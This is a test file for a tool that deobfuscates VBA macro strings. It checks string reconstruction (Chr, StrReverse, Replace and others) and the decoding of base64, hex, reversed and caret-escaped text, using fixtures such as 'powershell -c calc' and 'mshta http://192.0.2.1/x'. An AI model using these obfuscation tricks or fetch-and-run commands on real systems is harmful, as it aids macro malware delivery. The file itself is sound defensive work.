import { describe, expect, test } from 'vitest'
import { codeLines } from '../code.ts'
import { decodedStrings, rebuildStrings, Values } from './index.ts'

const strings = (source: string): readonly string[] => rebuildStrings(codeLines(source)).strings
const lines = (source: string): string => rebuildStrings(codeLines(source)).lines.join('\n')

describe('strings put together', () => {
  test.each([
    ['"ht" & "tp"', 'http'],
    ['"ht" + Chr(116) & Chr$(&H70)', 'http'],
    ['ChrW(100 + 4) & Chr(232 / 2) & Chr(58 * 2) & Chr(226 Xor 146)', 'http'],
    ['Chr(Asc("g") + 1) & "ttp"', 'http'],
    ['VBA.Strings.StrReverse("ptth")', 'http'],
    ['Replace("hXXttXXp", "XX", "")', 'http'],
    ['Join(Split("h-t-t-p", "-"), "")', 'http'],
    ['Join(Array("h", "tt", "p"), vbNullString)', 'http'],
    ['Mid("xxhttp", 3, 4)', 'http'],
    ['Left("httpxx", 4)', 'http'],
    ['Split("a http b")(1)', 'a'],
    ['LCase("HTTP")', 'http'],
    ['("h" & ("tt" & "p"))', 'http'],
    ['Environ("TEMP") & "\\a.txt"', '%TEMP%\\a.txt'],
    ['"a" & vbCrLf & "b"', 'a\r\nb'],
    ['"say ""hi"""', 'say "hi"'],
  ])('%s is %s', (expression, value) => {
    expect(strings(`x = f(1) & y\nz = ${expression}`)).toContain(value)
  })

  test.each([
    ['a variable', 'a = "calc"\na = a & ".exe"\nShell a', 'Shell "calc.exe"'],
    ['several on one line', 'a = "cal": b = "c.exe": Shell a & b', 'Shell "calc.exe"'],
    ['a constant with a type', 'Private Const A As String = "calc"\nShell A & ".exe"', 'Shell "calc.exe"'],
    [
      'a function that returns one',
      'Function p()\np = "calc"\nEnd Function\nSub x()\nShell p() & ".exe"\nEnd Sub',
      'Shell "calc.exe"',
    ],
    ['elements', 'a(0) = "cal"\na(1) = "c.exe"\nShell a(0) & a(1)', 'Shell "calc.exe"'],
    ['elements of an array', 'a = Array("x", "calc")\nShell a(1) & ".exe"', 'Shell "calc.exe"'],
    ['behind a condition', 'If y Then a = "calc" Else a = "calc"\nShell a', 'Shell "calc"'],
    ['what is not known stays', 'Shell "calc" & ".exe " & unknown(3) & "/" & "c"', 'Shell "calc.exe " & unknown ( 3 ) & "/c"'],
    ['a property is not a variable', 'a = "calc"\nShell form.a', 'Shell form . a'],
    ['what a loop changes is not known', 'a = "calc"\na = a & y\nShell a', 'Shell a'],
  ])('%s', (_, source, line) => {
    expect(lines(source)).toContain(line)
  })

  test('one module knows what another one sets', () => {
    const values = new Values()
    rebuildStrings(codeLines('Public Const path = "calc" & ".exe"'), values)
    expect(rebuildStrings(codeLines('Shell path'), values).lines).toEqual(['Shell "calc.exe"'])
  })

  test('hostile source costs linear time and bounded memory', () => {
    const started = performance.now()
    for (const source of [
      `x = ${'('.repeat(60_000)}`,
      `x = ${'Chr('.repeat(20_000)}`,
      `x = ${'"a" & '.repeat(20_000)}`,
      `x = ${'-'.repeat(60_000)}`,
      `x = Array(${'1,'.repeat(30_000)}`,
      `x = "a"\n${'x = x & x\n'.repeat(200)}`,
      `x = String(1000, "a")\n${'x = Replace(x, "a", x)\n'.repeat(200)}`,
      `x = ${'f(1, '.repeat(20_000)}`,
      `x = String(1000, "a")\n${'x = x & x\n'.repeat(10)}MsgBox ${'x & x, '.repeat(8_000)}`,
      `x = String(1000, "a")\n${'x = x & x\n'.repeat(10)}${'y = x & "b"\n'.repeat(20_000)}`,
    ])
      strings(source)
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})

describe('strings written as something else', () => {
  test.each([
    [Buffer.from('powershell -c calc').toString('base64'), 'powershell -c calc'],
    [Buffer.from('http://192.0.2.1/x', 'utf16le').toString('base64'), 'http://192.0.2.1/x'],
    [Buffer.from('http://192.0.2.1/x').toString('hex'), 'http://192.0.2.1/x'],
    ['txt.trani/1.2.0.291//:ptth', 'http://192.0.2.1/inart.txt'],
    ['m^s^h^t^a h^t^t^p://192.0.2.1/x', 'mshta http://192.0.2.1/x'],
  ])('%s', (string, value) => {
    expect(decodedStrings([string])).toContain(value)
  })

  test.each(['合計しました（円）', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ', '0123456789abcdef', 'Worksheets("Sheet1")'])(
    '%s is no more than it is',
    (string) => {
      expect(decodedStrings([string])).toEqual([])
    },
  )
})
